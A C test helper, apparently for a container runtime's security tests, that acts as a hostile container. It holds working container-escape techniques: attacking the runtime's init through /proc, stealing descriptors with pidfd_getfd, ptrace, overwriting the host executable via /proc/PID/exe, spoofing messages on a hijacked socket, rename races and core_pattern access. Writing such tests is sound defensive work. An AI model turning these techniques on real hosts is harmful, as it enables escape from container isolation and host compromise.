// What a hostile container or image does, for hostile.test.ts: verbs that attack, and report what they got.
//   hostile VERB [ARGUMENT ...]
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int failed(const char *call) {
  printf("%s: %s\n", call, strerrorname_np(errno));
  return 0;
}

static long long now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static int is_init(int pid) {
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  if (read(fd, name, sizeof name - 1) < 0) name[0] = 0;
  close(fd);
  return strncmp(name, "runt", 4) == 0 || strncmp(name, "runc", 4) == 0 || strncmp(name, "exe\n", 4) == 0 ||
         strncmp(name, "5\n", 2) == 0;
}

// Everything that ptrace access guards: what is behind it would be the host's, or init's rights.
static void attack(int pid) {
  static const char *const files[] = {"root/", "cwd/", "fd/0", "mem", "maps", "environ", "auxv", "io"};
  char path[64], target[256];
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    // Root may open the later ones and then not read them; of a process without memory, mem too, at whose address 0 nothing
    // can be read where there is any. It is init that was read if it is init afterwards.
    int got = fd >= 0 && (i < 3 || (i == 3 ? read(fd, target, 1) != 0 : read(fd, target, 1) > 0));
    if (got && is_init(pid)) printf("opened %s of init\n", files[i]);
    if (fd >= 0) close(fd);
  }
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t size = readlink(path, target, sizeof target - 1);
  if (size > 0 && is_init(pid)) printf("read the link exe of init: %.*s\n", (int)size, target);
  int exe = open(path, O_WRONLY);
  if (exe >= 0 && write(exe, "#!", 2) > 0) puts("wrote to an executable of the host or init");
  if (exe >= 0) close(exe);
  for (int fd = 0; fd < 32; fd++) {
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    int stolen = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (stolen >= 0 && is_init(pid)) printf("took descriptor %d of init\n", fd);
    if (stolen >= 0) close(stolen);
    if (pidfd >= 0) close(pidfd);
  }
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    if (is_init(pid)) puts("traced init");
    // Init may have become the program meanwhile, which is fair game, and goes on.
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

// Attacks every init that shows up in /proc, for so many milliseconds; tells how often it saw one.
static int peek(int milliseconds) {
  int seen = 0;
  puts("ready"), fflush(stdout);
  for (long long end = now() + milliseconds; now() < end;) {
    DIR *dir = opendir("/proc");
    if (dir == NULL) return failed("opendir");
    for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == getpid() || !is_init(pid)) continue;
      seen++;
      attack(pid);
      fflush(stdout);
    }
    closedir(dir);
  }
  printf("saw init %s\n", seen > 0 ? "yes" : "no");
  return 0;
}

// For so many milliseconds: keeps the executables of all others open, and writes to each as soon as nobody runs it any more.
static int overwrite(int milliseconds) {
  enum { kMany = 128 };
  static int files[kMany], pids[kMany];
  int count = 0;
  puts("ready"), fflush(stdout);
  for (long long end = now() + milliseconds; now() < end;) {
    DIR *dir = opendir("/proc");
    if (dir == NULL) return failed("opendir");
    for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
      int pid = atoi(entry->d_name), known = 0;
      for (int i = 0; i < count; i++) known += pids[i] == pid;
      // A process may execute another file after the first look.
      if (pid <= 0 || pid == getpid() || known > 2 || count == kMany) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY);
      if (fd >= 0) files[count] = fd, pids[count++] = pid;
    }
    closedir(dir);
    for (int i = 0; i < count; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", files[i]);
      int fd = open(path, O_WRONLY);
      if (fd < 0) continue;
      if (write(fd, "#!/overwritten\n", 15) > 0) {
        puts("overwrote");
        return 0;
      }
      close(fd);
    }
  }
  printf("held %s\n", count > 0 ? "some" : "none");
  return 0;
}

// For so many milliseconds, adds up the permitted and bounding capabilities of every init that shows up in /proc.
static int rights(int milliseconds) {
  unsigned long long permitted = 0, bounding = 0;
  puts("ready"), fflush(stdout);
  for (long long end = now() + milliseconds; now() < end;) {
    DIR *dir = opendir("/proc");
    if (dir == NULL) return failed("opendir");
    for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
      int pid = atoi(entry->d_name);
      char path[64], text[4096];
      snprintf(path, sizeof path, "/proc/%d/status", pid);
      int fd = pid > 0 && pid != getpid() ? open(path, O_RDONLY) : -1;
      if (fd < 0) continue;
      ssize_t size = read(fd, text, sizeof text - 1);
      close(fd);
      text[size < 0 ? 0 : size] = 0;
      char *set;
      if (strncmp(text, "Name:\trunt", 10) != 0) continue;
      if ((set = strstr(text, "CapPrm:\t")) != NULL) permitted |= strtoull(set + 8, NULL, 16);
      if ((set = strstr(text, "CapBnd:\t")) != NULL) bounding |= strtoull(set + 8, NULL, 16);
    }
    closedir(dir);
  }
  printf("permitted %llx\nbounding %llx\n", permitted, bounding);
  return 0;
}

// Messages of native/common/protocol.h: that init went on in another process, and that it failed.
struct message {
  unsigned type, value;
  int error;
  unsigned lengths[3];
};

// With CAP_SYS_PTRACE: takes the socket of the next init that shows up, and tells its other side that init goes on in a
// process of the host, which should be ended for init's failure.
static int spoof(int victim, int milliseconds) {
  puts("ready"), fflush(stdout);
  for (long long end = now() + milliseconds; now() < end;) {
    DIR *dir = opendir("/proc");
    if (dir == NULL) return failed("opendir");
    for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
      int pid = atoi(entry->d_name), type = 0;
      if (pid <= 0 || pid == getpid() || !is_init(pid)) continue;
      int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
      for (int fd = 3; pidfd >= 0 && fd < 64; fd++) {
        int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        socklen_t size = sizeof type;
        if (stolen < 0 || getsockopt(stolen, SOL_SOCKET, SO_TYPE, &type, &size) != 0 || type != SOCK_SEQPACKET) continue;
        kill(pid, SIGSTOP);
        struct message forked = {3, (unsigned)victim, 0, {0, 0, 0}}, over = {5, 0, 1, {0, 0, 0}};
        int sent = send(stolen, &forked, sizeof forked, MSG_NOSIGNAL) >= 0 && send(stolen, &over, sizeof over, MSG_NOSIGNAL) >= 0;
        kill(pid, SIGKILL);
        if (sent) {
          puts("sent");
          return 0;
        }
        // Too late for this one: runt has closed its end.
        if (errno != EPIPE && errno != ECONNRESET) return failed("send");
        close(stolen);
        break;
      }
      if (pidfd >= 0) close(pidfd);
    }
    closedir(dir);
  }
  return 0;
}

// Exchanges two names again and again until it is killed.
static int swap(const char *a, const char *b) {
  for (;;)
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) return failed("renameat2");
}

static int write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t size = write(fd, text, strlen(text));
  close(fd);
  return size < 0 ? -1 : 0;
}

// As a user who is root in a user namespace below the container's: a procfs without what hides its files.
static int nested_proc(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) return failed("unshare");
  if (write_file("/proc/self/setgroups", "deny") < 0) return failed("setgroups");
  if (write_file("/proc/self/uid_map", "0 0 1") < 0) return failed("uid_map");
  if (write_file("/proc/self/gid_map", "0 0 1") < 0) return failed("gid_map");
  pid_t pid = fork();
  if (pid < 0) return failed("fork");
  if (pid == 0) {
    if (mount("proc", "/tmp", "proc", 0, NULL) < 0) failed("mount");
    else puts(access("/tmp/sys/kernel/core_pattern", W_OK) == 0 ? "core_pattern can be written" : "mounted");
    fflush(stdout);
    _exit(0);
  }
  waitpid(pid, NULL, 0);
  return 0;
}

// Makes directories inside each other until their path is longer than PATH_MAX.
static int deep(const char *top, int length, int depth) {
  char name[256];
  memset(name, 'd', sizeof name);
  name[length] = 0;
  int at = open(top, O_RDONLY | O_DIRECTORY), made = 0;
  if (at < 0) return failed("open");
  for (; made < depth; made++) {
    if (mkdirat(at, name, 0755) < 0) break;
    int next = openat(at, name, O_RDONLY | O_DIRECTORY);
    if (next < 0) break;
    close(at);
    at = next;
  }
  printf("depth %d\n", made);
  return 0;
}

// Gives controllers to a cgroup below the container's, where it goes itself.
static int delegate(void) {
  if (mkdir("/sys/fs/cgroup/below", 0755) < 0) return failed("mkdir");
  if (write_file("/sys/fs/cgroup/below/cgroup.procs", "1") < 0) return failed("cgroup.procs");
  char text[256] = "+", *end;
  int fd = open("/sys/fs/cgroup/cgroup.controllers", O_RDONLY);
  if (fd < 0 || read(fd, text + 1, sizeof text - 2) <= 0) return failed("cgroup.controllers");
  if ((end = strpbrk(text, " \n")) != NULL) *end = 0;
  if (write_file("/sys/fs/cgroup/cgroup.subtree_control", text) < 0) return failed("cgroup.subtree_control");
  puts("ready"), fflush(stdout);
  for (;;) pause();
}

// Directories with names that are no UTF-8, one inside the other.
static int bytes(const char *top) {
  int at = open(top, O_RDONLY | O_DIRECTORY);
  if (at < 0) return failed("open");
  if (mkdirat(at, "\xff\xfe", 0755) < 0 || mkdirat(at, "\xff\xfe/\xc3\x28", 0755) < 0) return failed("mkdirat");
  puts("made");
  return 0;
}

// What the standard streams are, into a file.
static int streams(const char *path) {
  char link[64], target[256], text[1024];
  int length = 0;
  for (int fd = 0; fd < 3; fd++) {
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, target, sizeof target);
    length += snprintf(text + length, sizeof text - (size_t)length, "%d %.*s\n", fd, size < 0 ? 0 : (int)size, target);
  }
  int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (file < 0 || write(file, text, (size_t)length) < 0) return failed("write");
  return 0;
}

// Opens a standard stream again by its name, for writing.
static int reopen(const char *path, const char *text) {
  if (write_file(path, text) < 0) return failed("reopen");
  puts("written");
  return 0;
}

int main(int argc, char **argv) {
  const char *verb = argc > 1 ? argv[1] : "";
  if (strcmp(verb, "peek") == 0 && argc > 2) return peek(atoi(argv[2]));
  if (strcmp(verb, "rights") == 0 && argc > 2) return rights(atoi(argv[2]));
  if (strcmp(verb, "overwrite") == 0 && argc > 2) return overwrite(atoi(argv[2]));
  if (strcmp(verb, "spoof") == 0 && argc > 3) return spoof(atoi(argv[2]), atoi(argv[3]));
  if (strcmp(verb, "swap") == 0 && argc > 3) return swap(argv[2], argv[3]);
  if (strcmp(verb, "nested-proc") == 0) return nested_proc();
  if (strcmp(verb, "deep") == 0 && argc > 4) return deep(argv[2], atoi(argv[3]), atoi(argv[4]));
  if (strcmp(verb, "delegate") == 0) return delegate();
  if (strcmp(verb, "bytes") == 0 && argc > 2) return bytes(argv[2]);
  if (strcmp(verb, "streams") == 0 && argc > 2) return streams(argv[2]);
  if (strcmp(verb, "reopen") == 0 && argc > 3) return reopen(argv[2], argv[3]);
  fprintf(stderr, "hostile: unknown verb %s\n", verb);
  return 99;
}
